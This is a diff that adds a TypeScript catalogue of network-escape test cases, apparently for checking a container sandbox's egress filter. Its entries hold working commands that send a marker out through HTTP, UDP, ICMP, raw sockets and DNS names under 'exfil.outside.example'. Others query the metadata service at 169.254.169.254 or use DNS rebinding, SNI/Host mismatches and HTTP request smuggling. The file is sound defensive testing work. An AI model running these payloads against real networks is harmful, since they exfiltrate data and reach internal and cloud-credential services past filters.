@@ -1,0 +1,242 @@
+import type { Arrival } from "../../support/outside/events.ts";
+import type { Attack } from "../attack.ts";
+import { arrived, cgnat, insider, metadata } from "../outside-names.ts";
+import type { WeakeningName } from "../weakenings.ts";
+
+const group = "network reachability" as const;
+const bridge = "the engine's bridge";
+const rawBridge = "the engine's bridge, with raw sockets";
+const ownServer = "the engine's bridge and a name server";
+const blindFilter = "a filter that checks nothing";
+
+/** Whether it came to one of those addresses that are nobody's on the internet. */
+const isInside = (arrival: Arrival): boolean =>
+  "to" in arrival && [insider, metadata, cgnat].includes(arrival.to);
+
+const datagram = (address: string, port: number): string =>
+  `python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["SIGN"].encode().rjust(60), (os.environ["${address}"], ${port}))'`;
+const question = `b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in (os.environ["SIGN"] + ".exfil.outside.example").encode().split(b".")) + b"\\0\\0\\1\\0\\1"`;
+const web = (address: string): string => `curl -s -m 3 --noproxy '*' "http://$${address}/mark-$SIGN"`;
+
+/** Past the filter. Tried in every mode that hides the network. */
+const direct: readonly (readonly [string, string, WeakeningName])[] = [
+  ["ask a machine of the local network", web("INSIDER"), bridge],
+  ["ask the cloud's metadata service", web("METADATA"), bridge],
+  ["ask a machine behind the provider's address translation", web("CGNAT"), bridge],
+  ["ask a public address past the filter", web("OUTSIDE"), bridge],
+  ["send a datagram to a public address (QUIC)", datagram("OUTSIDE", 443), bridge],
+  ["send a datagram to the local network", datagram("INSIDER", 9), bridge],
+  [
+    "smuggle a name to a name server of one's own",
+    `python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(${question}, (os.environ["OUTSIDE"], 53))'`,
+    bridge,
+  ],
+  [
+    "smuggle a name to it over TCP",
+    `python3 -c 'import os, socket; q = ${question}; socket.create_connection((os.environ["OUTSIDE"], 53), 2).sendall(len(q).to_bytes(2, "big") + q)'`,
+    bridge,
+  ],
+  ["smuggle a name out by looking it up", "getent hosts $SIGN.exfil.outside.example", ownServer],
+  [
+    "ping a public address, with data",
+    'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + os.environ["SIGN"].encode().rjust(60), (os.environ["OUTSIDE"], 0))\'',
+    bridge,
+  ],
+  [
+    "send a packet made by hand (raw socket)",
+    'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(os.environ["SIGN"].encode().rjust(60), (os.environ["OUTSIDE"], 0))\'',
+    rawBridge,
+  ],
+];
+
+const modes = ["public", "strict", "none"] as const;
+const past: Omit<Attack, "id">[] = modes.flatMap((network) =>
+  direct.map(([words, inside, weakening]) => ({
+    group,
+    network,
+    words: `${network}: ${words}`,
+    inside,
+    weakening,
+  })),
+);
+
+const abstract =
+  'python3 -c \'import os, socket; socket.socket(socket.AF_UNIX).connect("\\0" + os.environ["ABSTRACT"])\'';
+const everyAddress = 'for one in $HOST_ADDRESSES; do ask "$one" "$PORT" && exit 0; done; exit 1';
+/** Of this host and beside it; their own listeners are the observers. */
+const hosts: Omit<Attack, "id">[] = modes.flatMap((network) =>
+  (
+    [
+      ["connect to a service of the host's on each of its addresses", everyAddress, bridge],
+      ["connect to a neighbour container", 'ask "$NEIGHBOUR" 8000', bridge],
+      ["connect to an abstract socket of the host's", abstract, "the host's network"],
+    ] as const
+  ).map(([words, inside, weakening]) => ({
+    ...{ group, network, words: `${network}: ${words}`, inside, weakening },
+  })),
+);
+
+type Through = readonly [words: string, inside: string, counts?: (arrival: Arrival) => boolean];
+
+/** Names that lead where nobody may go; TLS and all, so that it is the address that is refused. */
+const leading: readonly Through[] = [
+  ["a name that leads to the local network", "secure insider.outside.example:443", isInside],
+  ["a name that leads to the metadata service", "secure metadata.outside.example:443", isInside],
+  [
+    "a name that leads behind the provider's address translation",
+    "secure provider.outside.example:443",
+    isInside,
+  ],
+  [
+    "a name that leads to a public and a private address",
+    "for n in 1 2 3 4 5 6; do secure mixed.outside.example:443; done",
+    isInside,
+  ],
+  [
+    "a name that leads elsewhere when it is asked again",
+    "for n in 1 2 3; do secure rebinding.outside.example:443; done",
+    isInside,
+  ],
+  ["a name that leads to an address mapped into IPv6", "secure mapped.outside.example:443", isInside],
+  ["a name that leads to an address behind NAT64", "secure nat64.outside.example:443", isInside],
+  ["a name that leads to an address behind 6to4", "secure six-to-four.outside.example:443", isInside],
+  [
+    "plain HTTP to a name that leads to the local network",
+    'curl -s -m 3 "http://insider.outside.example/mark-$SIGN"',
+    isInside,
+  ],
+  [
+    "plain HTTP to a name that leads to the metadata service",
+    'curl -s -m 3 "http://metadata.outside.example/mark-$SIGN"',
+    isInside,
+  ],
+  ["the metadata service's address", "secure 169.254.169.254:443", isInside],
+  ["the same mapped into IPv6", "secure '[::ffff:a9fe:a9fe]:443'", isInside],
+  ["the same behind NAT64", "secure '[64:ff9b::a9fe:a9fe]:443'", isInside],
+  ["the same behind 6to4", "secure '[2002:a9fe:a9fe::1]:443'", isInside],
+  [
+    "plain HTTP to the metadata service's address",
+    'curl -s -m 3 "http://169.254.169.254/mark-$SIGN"',
+    isInside,
+  ],
+  ["a public address without a name", 'secure "$OUTSIDE:443"'],
+  [
+    "TLS that asks for another server than the tunnel",
+    "secure listed.outside.example:443 $SIGN.evil.example",
+  ],
+  ["TLS that asks for no server", "secure listed.outside.example:443 -"],
+  ["bytes that are no TLS", 'tunnel listed.outside.example:443 "SSH-2.0-$SIGN\\\\r\\\\n"'],
+  ["a tunnel to the port of ssh", 'tunnel listed.outside.example:22 "SSH-2.0-$SIGN\\\\r\\\\n"'],
+  ["a tunnel to another port", "secure listed.outside.example:8443 listed.outside.example"],
+  ["plain HTTP to another port", 'curl -s -m 3 "http://listed.outside.example:8443/mark-$SIGN"'],
+  [
+    "a Host header that says something else",
+    'raw "GET http://listed.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n"',
+    (arrival) => arrival.kind === "request" && arrival.host.startsWith("other."),
+  ],
+  [
+    "a head of 100 kB",
+    'curl -s -m 3 -H "X-Long: $(head -c 100000 /dev/zero | tr "\\\\0" a)" "http://listed.outside.example/mark-$SIGN"',
+  ],
+];
+
+const isOther = (arrival: Arrival): boolean => !("host" in arrival) || !arrival.host.startsWith("listed.");
+const smuggled =
+  "GET http://other.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n";
+
+/** Under `strict`, where one name is listed and the others are not. */
+const unlisted: readonly Through[] = [
+  ["ask for a name that is not listed", "secure other.outside.example:443"],
+  ["have a name looked up that is not listed", "secure $SIGN.exfil.outside.example:443"],
+  ["plain HTTP to a name that is not listed", 'curl -s -m 3 "http://other.outside.example/mark-$SIGN"'],
+  ["a name that ends like a listed one", "secure evillisted.outside.example:443"],
+  ["a name that begins like a listed one", "secure listed.outside.example.evil.outside.example:443"],
+  ["a listed name that leads to the local network", "secure private.outside.example:443", isInside],
+  ["TLS that asks for a name that is not listed", "secure listed.outside.example:443 $SIGN.evil.example"],
+  [
+    "a second request behind a first (two lengths)",
+    `raw "POST http://listed.outside.example/ HTTP/1.1\\\\r\\\\nHost: listed.outside.example\\\\r\\\\nContent-Length: 4\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\n\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n${smuggled}"; raw "${smuggled}"`,
+    isOther,
+  ],
+  [
+    "a second request on the same connection",
+    `raw "GET http://listed.outside.example/ HTTP/1.1\\\\r\\\\nHost: listed.outside.example\\\\r\\\\n\\\\r\\\\n${smuggled}"`,
+    isOther,
+  ],
+];
+
+const through = (
+  network: "public" | "strict",
+  list: readonly Through[],
+): (Omit<Attack, "id"> & { counts?: Through[2] })[] =>
+  list.map(([words, inside, counts]) => ({
+    ...{ group, network, words: `${network}, through the filter: ${words}`, inside, weakening: blindFilter },
+    ...(counts === undefined ? {} : { counts }),
+  })) as (Omit<Attack, "id"> & { counts?: Through[2] })[];
+
+const toHost: Omit<Attack, "id">[] = ["gateway", "own-public", "loopback", "zero"].map((name) => ({
+  group,
+  network: "public" as const,
+  words: `public, through the filter: a name that leads to this host (${name.replace("-", " ")})`,
+  inside: `tunnel ${name}.outside.example:$WEB_PORT`,
+  weakening: blindFilter,
+}));
+
+const isKnown =
+  "`public` asks for any public name, and its own name server hears of that; `strict` asks for listed names alone";
+/** What is not held, and said. */
+const said: readonly (Omit<Attack, "id"> & { counts?: Through[2] })[] = [
+  {
+    ...{ group, network: "public", words: "public: smuggle data in a name that the filter looks up" },
+    ...{
+      inside: "secure $SIGN.wild.outside.example:443",
+      weakening: blindFilter,
+      ours: "open",
+      why: isKnown,
+    },
+  },
+  {
+    ...{ group, network: "strict", words: "strict: smuggle data in a name below a listed `*.` pattern" },
+    ...{ inside: "secure $SIGN.wild.outside.example:443", weakening: blindFilter, ours: "open" },
+    why: "the owner of that domain hears of every name below it; list exact names where that matters",
+  },
+  {
+    ...{ group, network: "strict", words: "strict: another Host inside the TLS of a listed server" },
+    inside: "INNER_HOST=$SIGN.evil.example secure listed.outside.example:443",
+    ...{ weakening: blindFilter, ours: "open" },
+    why: "the filter does not open TLS; a server that serves others' names is listed with all of them",
+  },
+  ...[0, 1, 2, 4, 6, 9].map((index) => ({
+    ...{
+      group,
+      network: "open" as const,
+      words: `open: ${direct[index]?.[0]}`,
+      inside: direct[index]?.[1] ?? "",
+    },
+    ...{
+      weakening: bridge as WeakeningName,
+      ours: "open" as const,
+      why: "`open` is the engine's own bridge",
+    },
+  })),
+];
+
+const observed = [...past, ...through("public", leading), ...through("strict", unlisted), ...said] as (Omit<
+  Attack,
+  "id"
+> & {
+  counts?: Through[2];
+})[];
+
+/** Attacks that are judged by who sees them arrive: name server, web server and network card of a machine outside. */
+export const networkObserved: Attack[] = [
+  ...observed.map(({ counts, ...attack }, index) => {
+    const id = `NET-${101 + index}`;
+    return { ...attack, id, needsOutside: true, after: arrived(id, counts) };
+  }),
+  ...[...hosts, ...toHost].map((attack, index) => ({
+    ...attack,
+    id: `NET-${201 + index}`,
+    needsOutside: true,
+  })),
+];
